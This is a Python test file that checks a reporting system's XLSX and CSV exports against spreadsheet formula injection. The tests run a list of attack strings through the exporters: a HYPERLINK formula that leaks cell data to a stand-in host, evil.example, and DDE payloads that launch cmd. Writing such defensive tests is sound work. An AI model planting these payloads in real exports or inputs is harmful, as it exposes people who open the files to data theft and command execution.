"""Every spreadsheet and CSV Kaohe writes keeps text that looks like a formula as text
(issue 12, gap 8: CSV/formula injection), and numbers as numbers.

The builders are called with what a user can type (a unit's name, an item's description, a
reason in the audit log): ``=HYPERLINK(…)``, ``+cmd|…``, ``-2+3``, ``@SUM(…)``, a leading tab."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from domain.audit import Entry
from reporting.documents import hr_xlsx, rectification_xlsx, results_xlsx
from reporting.documents.cells import neutralise
from services.audit import to_csv

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_the_rule_itself():
    for attack in ATTACKS:
        assert neutralise(attack) == "'" + attack
    for number in ("-3", "+1.50", "-0.5", "12"):
        assert neutralise(number) == number  # a spreadsheet reads these as the number they are
    assert neutralise(-5) == -5 and neutralise(Decimal("-1.25")) == Decimal("-1.25") and neutralise("党建") == "党建"


def test_no_cell_of_the_rectification_list_is_a_formula():
    items = [{"id": f"i{n}", "unit": "U1", "unit_name": attack, "point": "1.1.1", "description": attack, "deadline": "2026-06-30",
              "status": "open", "owner": attack} for n, attack in enumerate(ATTACKS)]
    found = cells(rectification_xlsx(items))
    assert not [c.coordinate for c in found if c.data_type == "f"]
    texts = {c.value for c in found if isinstance(c.value, str)}
    for attack in ATTACKS:
        assert "'" + attack in texts
        assert attack not in texts


def test_results_and_the_hr_export_keep_names_as_text_and_numbers_as_numbers():
    results = {"units": {"U1": {"cohort": "grassroots_branch", "W": "90.00", "D": "80.00", "C": "87.00", "B": "0.00", "F": "87.00",
                                "rank": 1, "base_grade": "good", "grade": "good"}}}
    found = cells(results_xlsx("c", results, {"U1": ATTACKS[0]}))
    assert not [c.coordinate for c in found if c.data_type == "f"]
    assert "'" + ATTACKS[0] in {c.value for c in found}
    export = {"units": [{"unit": "U1", "name": ATTACKS[1], "cohort": "grassroots_branch", "grade": "good", "grade_name": "好",
                         "final_score": "87.00", "pay_coefficient": "1.00", "recognition_eligible": True, "recognition_note": ATTACKS[3]}]}
    cross = [{"unit": "U1", "name": ATTACKS[2], "party_grade": "good", "business_level": "-A", "difference": -1, "flagged": True, "note": ATTACKS[4]}]
    found = cells(hr_xlsx(export, cross))
    assert not [c.coordinate for c in found if c.data_type == "f"]
    values = [c.value for c in found]
    assert "'" + ATTACKS[1] in values and "'" + ATTACKS[2] in values and "'-A" in values
    assert -1 in values and 87 in values  # numbers stay numbers (the difference a negative one)


def test_the_audit_timeline_csv_runs_no_formula():
    entries = [Entry(position=7, at="2026-03-01T00:00:00+00:00", event="StageClosed", what=ATTACKS[0], actor="org", role="organizer",
                     cycle="c", unit=None, stage="self_review", reason=ATTACKS[n], old=None, new=-3, command_id="x")
               for n in range(len(ATTACKS))]
    rows = list(csv.reader(io.StringIO(to_csv(entries).lstrip("\ufeff"))))
    for n, row in enumerate(rows[1:]):
        assert row[0] == "7" and row[11] == "-3"  # a number (and a negative one) is written as itself
        assert row[3] == "'" + ATTACKS[0] and row[9] == "'" + ATTACKS[n]
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
